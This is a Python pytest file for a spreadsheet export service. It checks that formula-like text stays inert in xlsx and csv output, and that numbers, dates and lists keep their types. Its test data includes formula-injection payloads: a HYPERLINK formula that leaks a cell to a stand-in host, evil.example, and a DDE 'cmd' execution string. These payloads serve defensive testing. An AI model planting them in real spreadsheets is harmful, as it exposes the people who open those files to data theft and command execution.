"""Spreadsheets out: text that looks like a formula stays text, numbers stay numbers, times are date-time cells."""
from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from coordinator.services.spreadsheet_writing import write_csv, write_xlsx

FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "=1+1", "+1", "-2+3", "@SUM(A1)", "\tx",
                "\rx", "=cmd|' /C calc'!A0"]
SHANGHAI = timezone(timedelta(hours=8))
TYPED_ROW = [7, -2, 2.5, Decimal("5.8"), -1.5, datetime(2026, 11, 11, 20, 0, tzinfo=SHANGHAI), date(2026, 9, 1),
             ["包邮", "=evil"], None]


def workbook(rows: list[list]):
    data = write_xlsx([("产品", [f"h{i}" for i in range(max(len(r) for r in rows))], rows)])
    return load_workbook(io.BytesIO(data))["产品"]


def test_formula_like_text_is_written_as_a_string_cell_in_xlsx():
    sheet = workbook([FORMULA_LIKE])
    for cell, text in zip(sheet[2], FORMULA_LIKE):
        assert cell.data_type == "s", text
        # XML itself reads a lone carriage return back as a line feed; the cell is still that text, not a formula.
        assert cell.value == text.replace("\r", "\n")


def test_no_formula_reaches_the_xlsx_file():
    data = write_xlsx([("s", ["名称"], [[text] for text in FORMULA_LIKE])])
    formulas = load_workbook(io.BytesIO(data)).active
    assert not any(cell.data_type == "f" for row in formulas.iter_rows() for cell in row)
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")


def test_numbers_are_number_cells_and_money_shows_two_decimals():
    cells = workbook([TYPED_ROW])[2]
    assert [(c.value, c.data_type) for c in cells[:5]] == [(7, "n"), (-2, "n"), (2.5, "n"), (5.8, "n"), (-1.5, "n")]
    assert cells[3].number_format == "#,##0.00"


def test_times_are_date_time_cells_in_the_wall_time_they_carry():
    cells = workbook([TYPED_ROW])[2]
    assert cells[5].is_date and cells[5].value == datetime(2026, 11, 11, 20, 0)
    assert cells[5].number_format == "yyyy-mm-dd hh:mm"
    assert cells[6].is_date and cells[6].value.date() == date(2026, 9, 1) and cells[6].number_format == "yyyy-mm-dd"


def test_lists_are_lines_of_one_text_cell_and_none_is_empty():
    cells = workbook([TYPED_ROW])[2]
    assert (cells[7].value, cells[7].data_type) == ("包邮\n=evil", "s")
    assert cells[8].value is None


def test_the_header_is_text_too():
    data = write_xlsx([("s", ["=SUM(A1)", "名称"], [])])
    header = load_workbook(io.BytesIO(data)).active[1]
    assert [(c.value, c.data_type) for c in header] == [("=SUM(A1)", "s"), ("名称", "s")]


def test_characters_xlsx_cannot_hold_do_not_break_the_export():
    cells = workbook([["a\x00b\x01c", float("nan"), Decimal("Infinity")]])[2]
    assert [c.data_type for c in cells] == ["s", "s", "s"] and cells[0].value.startswith("a")


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM spreadsheet programs need to see UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_formula_like_text_gets_a_leading_quote_in_csv(text):
    assert read_csv(write_csv(["名称"], [[text]]))[1] == ["'" + text]


def test_csv_numbers_and_plain_text_are_left_alone():
    rows = read_csv(write_csv(["名称", "数"], [["宜君苹果", -2], ["a=b", 3.5], ["", Decimal("-5.8")]]))
    assert rows[1:] == [["宜君苹果", "-2"], ["a=b", "3.5"], ["", "-5.80"]]


def test_csv_times_dates_money_and_lists():
    row = read_csv(write_csv(["h"] * len(TYPED_ROW), [TYPED_ROW]))[1]
    assert row == ["7", "-2", "2.5", "5.80", "-1.5", "2026-11-11 20:00", "2026-09-01", "包邮\n=evil", ""]
